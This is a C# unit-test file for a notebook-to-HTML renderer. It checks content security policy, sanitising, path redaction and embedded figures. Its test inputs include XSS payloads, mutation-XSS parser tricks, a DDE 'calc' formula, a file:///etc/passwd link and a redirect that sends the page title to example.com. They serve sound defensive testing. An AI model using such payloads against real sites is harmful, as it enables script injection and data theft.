using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using AngleSharp.Dom;
using AngleSharp.Html.Dom;
using AngleSharp.Html.Parser;
using MemoryWall.NotebookRunner.Rendering;
using static MemoryWall.NotebookRunner.Tests.Notebooks;

namespace MemoryWall.NotebookRunner.Tests.Rendering;

public sealed class HtmlPageTests : IDisposable
{
    private static readonly string s_library = "if(!window.Lib){window.Lib=1;/*" + new string('x', 10_000) + "*/}";

    private readonly TestFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    private string Page(params JsonObject[] cells) => Page(null, [cells]);

    private string Page(string? front, params JsonObject[][] notebooks)
    {
        var page = new HtmlPage();
        if (front is not null)
            page.AddFrontPage(front);
        for (var i = 0; i < notebooks.Length; i++)
            page.AddNotebook(_folder.Write($"0{i}-nb.ipynb", Json(notebooks[i])));
        return page.ToHtml();
    }

    // A reader sees the values that were used, and not the samples that they replaced.
    [Fact]
    public void ToHtml_ReplacedParameters_ShowTheirValuesOnly()
    {
        var document = Parse(Page(Code("string runName = \"samples/a\"; // a sample\nint tokens = 16;", "parameters"),
            Code("// Parameters\nrunName = \"20261129-1\";", "injected-parameters")));
        var cells = document.QuerySelectorAll("details.code code").Select(code => code.TextContent.Trim()).ToList();
        Assert.Equal(["int tokens = 16;", "runName = \"20261129-1\";"], cells);
        Assert.DoesNotContain("samples/a", document.Body!.TextContent, StringComparison.Ordinal);
        Assert.Contains("samples/a", Page(Code("string runName = \"samples/a\";", "parameters")), StringComparison.Ordinal);
        Assert.Single(Parse(Page(Code("string runName = \"samples/a\";", "parameters"),
            Code("// Parameters\nrunName = \"20261129-1\";", "injected-parameters"))).QuerySelectorAll("details.code"));
    }

    private static IHtmlDocument Parse(string html) => new HtmlParser().ParseDocument(html);

    [Fact]
    public void ToHtml_HasPolicyThatFetchesNothing_AndNoAddressThatWould()
    {
        var html = Page(Prose("![far](https://example.com/x.png) [near](https://example.com)"),
            Executed("1",
                Data(("text/html",
                    "<img src='https://example.com/a.png'><script src='https://example.com/a.js'></script>"
                        + "<link rel=stylesheet href='https://example.com/a.css'><iframe src='https://example.com'></iframe>"))));
        var document = Parse(html);
        var policy = document.QuerySelector("meta[http-equiv=Content-Security-Policy]")!.GetAttribute("content")!;
        Assert.Contains("default-src 'none'", policy);
        Assert.DoesNotContain("script-src 'unsafe-inline'", policy);
        Assert.Empty(document.QuerySelectorAll("script[src], iframe, link[rel=stylesheet]"));
        Assert.Empty(document.QuerySelectorAll("img[src]"));
        Assert.Equal(["https://example.com"], document.QuerySelectorAll("main a").Select(link => link.GetAttribute("href")));
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("</pre></code></details><script>alert(1)</script>")]
    [InlineData("[x](javascript:alert(1)) <javascript:alert(1)> [x](java&#10;script:alert(1)) ![x](javascript:alert(1))")]
    [InlineData("[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](file:///etc/passwd)")]
    [InlineData("[a]: javascript:alert(1)\n\n[a] [x][a]")]
    [InlineData("# h {onclick=alert(1)}\n\n[x](#y){onmouseover=alert(1)}")]
    [InlineData("=cmd|' /C calc'!A0 \u001b]8;;javascript:alert(1)\u0007x")]
    [InlineData("--><!--<![CDATA[")]
    public void ToHtml_HostileTextAnywhere_IsInert(string hostile)
    {
        var html = Page(
            Prose(hostile), Prose($"# {hostile}"), Prose("```\n" + hostile + "\n```"), Code(hostile),
            Executed("1", Stream(hostile), Data(("text/plain", hostile)),
                Data(("application/json", new JsonObject { ["model"] = hostile })), Data(("text/markdown", hostile)),
                Data(("text/latex", hostile)),
                Data(("image/png", hostile)), Data(("image/svg+xml", $"<svg>{hostile}</svg>"), ("text/plain", hostile)),
                new JsonObject
                {
                    ["output_type"] = "error",
                    ["ename"] = hostile,
                    ["evalue"] = hostile,
                    ["traceback"] = new JsonArray(hostile)
                },
                Data((Provenance.MimeType,
                    new JsonObject { ["runs"] = new JsonArray(hostile), ["versions"] = new JsonObject { [hostile] = hostile } }))));
        var document = Parse(html);
        Assert.Single(document.QuerySelectorAll("script"));
        Assert.DoesNotContain(document.All,
            element => element.Attributes.Any(attribute => attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase)));
        Assert.All(document.QuerySelectorAll("a[href]"), link => Assert.Matches("^#|^https?:|^mailto:", link.GetAttribute("href")!));
        Assert.All(document.QuerySelectorAll("img"), image => Assert.StartsWith("data:image/", image.GetAttribute("src")));
        Assert.DoesNotContain('\u001b', html);
        Assert.NotNull(document.QuerySelector("footer.provenance"));
    }

    [Fact]
    public void ToHtml_OutputLeftOpen_EndsWithItsOutput()
    {
        var document = Parse(Page(
            Executed("1", Data(("text/html", "<div><table><tr><td>a<!-- "))),
            Executed("2", Data(("text/html", "</div></article></main><script>var a = 1;"))),
            Executed("3", Data(("text/html", "<b id='last'>after</b>")))));
        Assert.Equal("after", document.QuerySelector("main > article > div.output > #last")!.TextContent);
        Assert.NotNull(document.QuerySelector("body > footer"));
    }

    [Fact]
    public void ToHtml_NestedWithoutEnd_IsShownAsText()
    {
        var document = Parse(Page(
            Executed("1", Data(("text/html", string.Concat(Enumerable.Repeat("<div>", 20_000)) + "x"))),
            Prose(new string('>', 5_000) + " x"), Prose(new string('[', 5_000) + "x" + new string(']', 5_000)), Prose("# after")));
        Assert.StartsWith("<div><div>", document.QuerySelector("div.output > pre")!.TextContent);
        Assert.StartsWith(">>>>", document.QuerySelector("article > pre")!.TextContent);
        Assert.Equal("after", document.QuerySelector("article > h1")!.TextContent);
    }

    [Fact]
    public void ToHtml_HandlersInAnOutput_AreGone_FiguresStay()
    {
        var document = Parse(
            Page(Executed("1",
                Data(("text/html",
                    "<p onclick='x()'><a href='javascript:x()'>l</a><svg><a xlink:href='javascript:x()'/></svg>"
                        + "<form action='javascript:x()'></form></p>"
                            + "<base href='https://e'><meta http-equiv=refresh content='0;url=https://e'>"
                                + "<script type='application/json' class='plot'>{\"a\":\"<b>\"}</script><script>draw();</script>")))));
        var output = document.QuerySelector("div.output")!;
        Assert.DoesNotContain("javascript", output.InnerHtml);
        Assert.DoesNotContain("onclick", output.InnerHtml);
        Assert.Empty(output.QuerySelectorAll("base, meta"));
        Assert.Equal("{\"a\":\"<b>\"}", output.QuerySelector("script.plot")!.TextContent);
        Assert.Empty(output.QuerySelectorAll("script:not([type])"));
    }

    // A browser runs scripts, so it reads as text what a parser without them reads as elements, and the other way round.
    [Theory]
    [InlineData("<noscript><!--</noscript><meta http-equiv=refresh content='0;url=https://e'>--></noscript>")]
    [InlineData("<div><noscript><p title='</noscript><meta http-equiv=refresh content=0>'></noscript></div>")]
    [InlineData("<template shadowrootmode=open><meta http-equiv=refresh content='0;url=https://e'></template>")]
    [InlineData("<noembed><!--</noembed><meta http-equiv=refresh content=0>--></noembed><noframes><meta http-equiv=refresh></noframes>")]
    [InlineData("<xmp><meta http-equiv=refresh></xmp><!--><meta http-equiv=refresh>--><!-- <meta http-equiv=refresh> -->")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;meta http-equiv=refresh&gt;'></mglyph></table>")]
    [InlineData("<form><math><mtext></form><form><mglyph><style></math><meta http-equiv=refresh></style></mglyph></form>")]
    [InlineData("<svg></p><style><a id='</style><meta http-equiv=refresh content=0>'>")]
    [InlineData("<b>x</b><plaintext><meta http-equiv=refresh>")]
    public void ToHtml_OutputThatBrowsersReadOtherwise_HasNeitherElementNorComment(string hostile)
    {
        foreach (var scripting in new[] { false, true })
        {
            var parser = new HtmlParser(new HtmlParserOptions { IsScripting = scripting });
            var document = parser.ParseDocument(Page(Executed("1", Data(("text/html", hostile))), Prose("# after")));
            Assert.Empty(document.QuerySelectorAll("main meta, main noscript, main template, body > meta"));
            Assert.Single(document.QuerySelectorAll("meta[http-equiv]"));
            Assert.Empty(document.Body!.Descendants<IComment>());
            Assert.NotNull(document.QuerySelector("article > h1"));
        }
    }

    [Fact]
    public void ToHtml_ScriptsOfOutputs_AreNeitherInThePageNorInItsPolicy()
    {
        const string Hostile = "location='https://example.com/?'+document.title";
        JsonObject[] Cells() =>
            [Executed("1", Data(("text/html", $"<style>.a{{}}</style><script>{s_library}</script><script>{Hostile}</script>"))),
                Executed("2", Data(("text/html", $"<style>.a{{}}</style><script type='speculationrules'>{{}}</script>"
                    + "<script src='data:,x'></script>"
                    + "<script type='module'>import 'https://example.com'</script><svg><script>draw()</script></svg><i>said</i>")))];
        var html = Page(null, Cells(), Cells());
        var document = Parse(html);
        Assert.Empty(document.QuerySelectorAll("div.output script"));
        Assert.DoesNotContain("example.com", html, StringComparison.Ordinal);
        Assert.DoesNotContain(s_library, html, StringComparison.Ordinal);
        Assert.Single(Regex.Matches(document.QuerySelector("meta[http-equiv]")!.GetAttribute("content")!, "'sha256-"));
        Assert.Equal(2, document.QuerySelectorAll("div.output i").Length);
        Assert.Equal(1, Regex.Count(html, Regex.Escape(".a{}")));
    }

    [Theory]
    [InlineData("(window.memwallFigures=window.memwallFigures||[]).push([\"0123456789abcdef\",\"q1Y=\"]);", true)]
    [InlineData("(window.memwallFigures=window.memwallFigures||[]).push([\"0123456789abcdef\",\"q1Y=\"]);steal()", false)]
    [InlineData("(window.memwallFigures=window.memwallFigures||[]).push([\"0123456789abcdef\",\"q1Y\"+steal()]);", false)]
    [InlineData("(window.memwallFigures=window.memwallFigures||[]).push([\"0123456789abcdef\",\"q1Y=\"]);\n", false)]
    [InlineData("(window.memwallFigures=window.memwallFigures||[]).push([\"x\",\"q1Y=\"]);", false)]
    public void ToHtml_DataOfAFigure_StaysInItsOneFormOnly(string script, bool stays) =>
        Assert.Equal(stays, Parse(Page(Executed("1", Data(("text/html", $"<div></div><script>{script}</script>")))))
            .QuerySelector("div.output script") is not null);

    [Fact]
    public void ToHtml_OutputDrawnByAForeignScript_IsItsStillPicture()
    {
        var document = Parse(Page(Executed("1", Data(("text/html", "<div id='plot'></div><script>draw()</script>"),
            ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'/>"), ("text/plain", "a plot")))));
        Assert.Equal("a plot", document.QuerySelector("div.output img")!.GetAttribute("alt"));
        Assert.Null(document.QuerySelector("#plot"));
    }

    [Fact]
    public void ToHtml_SeveralNotebooks_HaveContentsWhoseEveryLinkLeadsSomewhere()
    {
        var front = _folder.Write("front.md", "# Findings\n\nOne [two](#findings).");
        var document = Parse(
            Page(front, [Prose("# First\n\n## Part `a` & <b>\n\n## Part a b\n\n[up](#first)")],
                [Prose("text"), Prose("# Second\n\n## Part a b\n\n# Third")]));

        Assert.Equal(["First", "Part a & <b>", "Part a b", "Second", "Part a b", "Third"],
            document.QuerySelectorAll("nav a").Select(link => link.TextContent));
        var ids = document.All.Select(element => element.Id).Where(id => !string.IsNullOrEmpty(id)).ToList();
        Assert.Equal(ids.Count, ids.Distinct().Count());
        Assert.All(document.QuerySelectorAll("a"), link => Assert.Contains(link.GetAttribute("href")![1..], ids));
        Assert.Equal("First", document.Title);
        Assert.True(
            document.QuerySelector("section.front")!.CompareDocumentPosition(document.QuerySelector("main")!)
                .HasFlag(DocumentPositions.Following));
    }

    [Fact]
    public void ToHtml_Code_IsFolded_AndTagsHideWhatTheyName()
    {
        JsonObject Tagged(string tag)
        {
            var cell = Executed(tag, Stream("out of " + tag));
            cell["metadata"]!["tags"] = new JsonArray(tag);
            return cell;
        }
        var document = Parse(
            Page(Executed("var a = 1 < 2;"), Tagged("remove-cell"), Tagged("remove-input"), Tagged("remove-output"), Tagged("parameters")));
        var code = document.QuerySelectorAll("details.code");
        Assert.Equal(["var a = 1 < 2;", "remove-output", "parameters"], code.Select(block => block.QuerySelector("code")!.TextContent));
        Assert.All(code, block => Assert.False(block.HasAttribute("open")));
        Assert.Equal(["out of remove-input", "out of parameters"],
            document.QuerySelectorAll("div.output").Select(output => output.TextContent));
    }

    [Fact]
    public void ToHtml_NotebookThatDidNotRunToItsEnd_SaysSoFirst()
    {
        var failed = Page(Executed("1", Stream("x")),
            Executed("2",
                new JsonObject
                {
                    ["output_type"] = "error",
                    ["ename"] = "Boom",
                    ["evalue"] = "it <broke>",
                    ["traceback"] = new JsonArray()
                }), Code("3"));
        Assert.Contains("It stopped at cell 2: it <broke>",
            Parse(failed).QuerySelector("article > p.stopped:first-child")!.TextContent);
        Assert.Contains("1 of the 2 code cells", Parse(Page(Executed("1"), Code("2"))).QuerySelector("p.stopped")!.TextContent);
        Assert.Contains("has not been run", Parse(Page(Code("2"))).QuerySelector("p.stopped")!.TextContent);
        Assert.Null(Parse(Page(Executed("1"), Code("  "))).QuerySelector("p.stopped"));
    }

    [Fact]
    public void ToHtml_Provenance_IsGatheredOnceAndNotShownAsAnOutput()
    {
        JsonObject ProvenanceOf(string run) => Data((Provenance.MimeType, new JsonObject
        {
            ["runs"] = new JsonArray(run, 7),
            ["machines"] = new JsonArray("box"),
            ["versions"] = new JsonObject { ["engine"] = "1.0+0123456789abcdef0123456789abcdef01234567" },
            ["inputs"] = new JsonArray(new JsonObject { ["path"] = "data/a", ["sha256"] = "00ff" }, "junk"),
        }));
        var document = Parse(Page(Executed("1", ProvenanceOf("r1"), ProvenanceOf("r2"), ProvenanceOf("r1"))));
        var entries = document.QuerySelectorAll("footer dd").Select(entry => entry.TextContent).ToList();
        Assert.Equal(["r1", "r2", "box", "engine 1.0"], entries);
        Assert.Empty(document.QuerySelectorAll("div.output"));
    }

    // A saved notebook has no plotly.js, which is larger than all its figures.
    [Fact]
    public void ToHtml_Figures_GetTheirScriptsOnceAndAfterWhatIsToBeRead()
    {
        JsonObject Figure() => Data(("text/html", "<div data-memwall-figure=\"a\"><svg></svg></div><p>said</p>"));
        var document = Parse(Page(null, [Executed("1", Figure())], [Executed("2", Figure())]));
        var script = Assert.Single(document.Scripts, candidate => candidate.Text.Contains("Plotly", StringComparison.Ordinal)
            && candidate.Text.Length > 1_000_000);
        Assert.StartsWith("if(!window.Plotly){(function(define,module,exports){", script.Text, StringComparison.Ordinal);
        Assert.True(document.QuerySelector("footer")!.CompareDocumentPosition(script).HasFlag(DocumentPositions.Following));
        Assert.Equal(2, document.QuerySelectorAll("div.output p").Length);
        Assert.Contains(
            Convert.ToBase64String(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(script.Text))),
            document.QuerySelector("meta[http-equiv]")!.GetAttribute("content"));
        Assert.DoesNotContain(Parse(Page(Executed("1", Stream("x")))).Scripts, candidate => candidate.Text.Length > 100_000);
    }

    [Fact]
    public void ToHtml_Pictures_OfTheFolderAreInThePage_OthersAreNot()
    {
        using var outside = new TestFolder();
        outside.Write("o.png", "secret");
        _folder.Write("a b.png", "picture");
        var link = "";
        if (!OperatingSystem.IsWindows())
        {
            File.CreateSymbolicLink(_folder.File("link.png"), outside.File("o.png"));
            link = "![link](link.png)";
        }
        var cell = Prose(
            $"![in](a%20b.png) ![out](../{Path.GetFileName(outside.Path)}/o.png) "
                + $"![abs]({outside.File("o.png")}) {link} ![at](attachment:x.png) ![none](nb.ipynb)");
        cell["attachments"] = new JsonObject { ["x.png"] = new JsonObject { ["image/png"] = "aGk=" } };
        var document = Parse(Page(cell));
        Assert.Equal(["data:image/png;base64,cGljdHVyZQ==", "data:image/png;base64,aGk="],
            document.QuerySelectorAll("img").Select(image => image.GetAttribute("src")));
        Assert.Contains("out", document.QuerySelector("article p")!.TextContent);
    }

    [Fact]
    public void ToHtml_PathsTracesAndBuildLines_StayOutOfThePage()
    {
        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
        var temporary = Path.Combine(Path.GetTempPath(), "memwall-x", "run.log");
        var load = Executed("#load \"load.csx\"", Stream($"Building the engine in {home}/work …"), Data(("text/plain", "loaded")));
        var html = Page(load,
            Executed("2", Stream($"read {home}/models/a.gguf, wrote {temporary}"),
                Data(("text/html", $"<p>{home}/models/b.gguf, then</p>")), Data(("text/markdown", $"`{home}/c.txt`"))),
            Executed("3", new JsonObject
            {
                ["output_type"] = "error",
                ["ename"] = "System.IO.IOException",
                ["evalue"] = $"cannot read {home}/secret/d.csv\nmore",
                ["traceback"] = new JsonArray("System.IO.IOException", $"   at Engine.Read() in {home}/src/Engine.cs:line 7"),
            }), Executed("4", Stream("after")));
        foreach (var leak in new[] { home + "/", Path.GetTempPath(), "Building", "   at ", "IOException", "Engine.cs" })
            Assert.DoesNotContain(leak, html, StringComparison.Ordinal);
        var document = Parse(html);
        Assert.Equal("read a.gguf, wrote run.log", document.QuerySelectorAll("div.output pre")[1].TextContent);
        Assert.Equal("b.gguf, then", document.QuerySelector("div.output > p")!.TextContent);
        // One sentence, at the place itself.
        Assert.Equal("This part could not be made: cannot read d.csv", Assert.Single(document.QuerySelectorAll("p.stopped")).TextContent);
    }

    [Fact]
    public void ToHtml_FrontPageAlone_HasItsSentenceAboutWhatIsMissing_AndNoContents()
    {
        var page = new HtmlPage();
        page.AddFrontPage(_folder.Write("front.html", "<div class=\"summary\"><h1>Summary</h1></div>"));
        page.AddProblem("The chapters are missing.");
        var document = Parse(page.ToHtml());
        Assert.Equal("The chapters are missing.", document.QuerySelector("main > p.stopped")!.TextContent);
        Assert.Null(document.QuerySelector("nav"));
        Assert.Equal("Summary", document.QuerySelector("section.front h1")!.TextContent);
    }

    [Fact]
    public void ToHtml_OmittedTag_LeavesItsCellsOut()
    {
        var cell = Prose("# Summary");
        cell["metadata"] = new JsonObject { ["tags"] = new JsonArray("summary") };
        var page = new HtmlPage();
        page.AddNotebook(_folder.Write("nb.ipynb", Json(cell, Prose("## One\n\n## Two"))), "summary");
        var document = Parse(page.ToHtml());
        Assert.Equal(["One", "Two"], document.QuerySelectorAll("article h1, article h2").Select(heading => heading.TextContent));
        Assert.Equal(["One", "Two"], document.QuerySelectorAll("nav a").Select(link => link.TextContent));
    }

    [Fact]
    public void ToHtml_SameInput_GivesTheSameBytes() =>
        Assert.Equal(Page(Prose("# A"), Executed("1", Stream("x"))), Page(Prose("# A"), Executed("1", Stream("x"))));
}
